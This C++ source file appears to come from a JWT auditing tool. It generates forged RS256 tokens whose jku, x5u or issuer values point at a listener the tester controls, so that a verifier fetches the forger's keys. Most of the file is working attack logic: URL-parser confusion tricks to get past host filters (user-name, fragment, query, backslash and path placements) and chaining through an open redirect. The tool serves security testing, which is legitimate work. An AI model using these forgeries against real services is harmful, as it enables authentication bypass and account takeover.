// SPDX-FileCopyrightText: Claimcheck contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Keys that the token says where to get (RFC 7515 §4.1.2, §4.1.5): a listener of our own on this machine has
// them, and hears it when the server comes (RFC 8725 §3.10).

#include "families.h"
#include "making.h"

#include <QtCore/qbytearray.h>

#include <json/write.h>

namespace claimcheck::audit {

namespace {

/// The part of a path that says which kid the listener's key has.
std::string folderOf(std::string_view what, Kid kid)
{
    return std::string(what) + (kid == Kid::Kept ? "-kept" : "-own");
}

std::vector<Forgery> forgeUrl(const Material& material, const std::string& member, const std::string& file)
{
    Basket basket;
    for (const Kid kid : kidsOfOwnKeys(material)) {
        ObjectText header = goodHeader(material).setText("alg", "RS256");
        apply(kid, header, material);
        const std::string callback = "/" + folderOf(member + (kid == Kid::Dropped ? "-none" : ""), kid) + "/";
        header.setText(member, material.listener + callback + file);
        const std::string variant = member + ", " + std::string(toText(kid));
        if (Forgery* made = basket.add(
                variant, "the header's " + member + " names our listener: " + variant,
                signedToken("RS256", material.own.rsa, header.json(), ownPayload(material)), ownChanges))
            made->callback = callback;
    }
    return basket.take();
}

/// The host of the issuer or of a jku that the good token has: what a careless filter looks for.
std::string trustedHost(const Material& material)
{
    for (const std::string_view name : {"jku", "iss"}) {
        const json::Document* document =
            name == "jku"               ? (material.good.headerJson ? &*material.good.headerJson : nullptr)
            : material.good.payloadJson ? &*material.good.payloadJson
                                        : nullptr;
        const auto value = document ? document->root().find(name) : std::nullopt;
        const std::string url = value ? value->string() : std::string();
        const std::size_t host = url.find("://");
        if (host != std::string::npos)
            return url.substr(host + 3, url.find_first_of("/?#", host + 3) - host - 3);
    }
    return {};
}

Forgery* addAtListener(Basket& basket, const Material& material, const std::string& variant,
                       const std::string& issuer, const std::string& callback, Kid kid)
{
    ObjectText header = goodHeader(material).setText("alg", "RS256");
    apply(kid, header, material);
    Forgery* made = basket.add(
        variant + ", " + std::string(toText(kid)),
        "the issuer is our listener, signed with a key of our own: " + variant,
        signedToken("RS256", material.own.rsa, header.json(), ownClaims(material).set("iss", issuer).json()),
        {"exp", "jti", "iss"});
    if (made != nullptr)
        made->callback = callback;
    return made;
}

} // namespace

std::vector<Forgery> forgeJku(const Material& material)
{
    return forgeUrl(material, "jku", "jwks.json");
}

std::vector<Forgery> forgeX5u(const Material& material)
{
    return forgeUrl(material, "x5u", "certificate.pem");
}

std::vector<Forgery> forgeJkuBypass(const Material& material)
{
    Basket basket;
    const std::string host = trustedHost(material).empty() ? "issuer.example" : trustedHost(material);
    const std::string& base = material.listener;
    const std::size_t authority = base.find("://") + 3;
    const auto add = [&](const std::string& variant, const std::string& url, const std::string& callback) {
        const std::string header = goodHeader(material).setText("alg", "RS256").setText("jku", url).json();
        if (Forgery* made =
                basket.add(variant, "a jku that looks like the issuer's and names our listener: " + variant,
                           signedToken("RS256", material.own.rsa, header, ownPayload(material)), ownChanges))
            made->callback = callback;
    };
    add("host as user name",
        base.substr(0, authority) + host + "@" + base.substr(authority) + "/user-kept/jwks.json",
        "/user-kept/");
    add("host in the fragment", base + "/fragment-kept/jwks.json#https://" + host + "/jwks.json",
        "/fragment-kept/");
    add("host in the query", base + "/query-kept/jwks.json?https://" + host + "/jwks.json", "/query-kept/");
    // Readers of URLs disagree on which host this is (RFC 3986 §3.2 has no backslash, WHATWG URL ends the
    // host there).
    add("host before a backslash",
        base.substr(0, authority) + host + "\\@" + base.substr(authority) + "/backslash-kept/jwks.json",
        "/backslash-kept/");
    add("two slashes", base.substr(authority - 2) + "/slashes-kept/jwks.json", "/slashes-kept/");
    add("host in the path", base + "/path-kept/" + host + "/.well-known/jwks.json", "/path-kept/");
    return basket.take();
}

std::vector<Forgery> forgeJkuRedirect(const Material& material)
{
    Basket basket;
    const std::string callback = "/redirect-kept/";
    const std::string url = material.listener + callback + "jwks.json";
    for (const bool isEncoded : {true, false}) {
        const std::string place =
            isEncoded ? QByteArray::fromStdString(url).toPercentEncoding().toStdString() : url;
        const std::string header =
            goodHeader(material).setText("alg", "RS256").setText("jku", material.openRedirect + place).json();
        if (Forgery* made =
                basket.add(isEncoded ? "redirect, percent-encoded" : "redirect, as it is",
                           "the header's jku names the open redirect, which leads to our listener",
                           signedToken("RS256", material.own.rsa, header, ownPayload(material)), ownChanges))
            made->callback = callback;
    }
    return basket.take();
}

std::vector<Forgery> forgeIssuerArrayAtListener(const Material& material)
{
    Basket basket;
    for (const Kid kid : {Kid::Kept, Kid::Own}) {
        const std::string callback = "/" + folderOf("issuers", kid);
        const std::string issuers =
            "[" + json::quoted(material.listener + callback) + "," + std::string(material.claim("iss")) + "]";
        addAtListener(basket, material, "[listener, good]", issuers, callback, kid);
    }
    return basket.take();
}

std::vector<Forgery> forgeIssuerAtListener(const Material& material)
{
    Basket basket;
    for (const Kid kid : {Kid::Kept, Kid::Own}) {
        const std::string callback = "/" + folderOf("issuer", kid);
        addAtListener(basket, material, "listener", json::quoted(material.listener + callback), callback,
                      kid);
    }
    return basket.take();
}

} // namespace claimcheck::audit
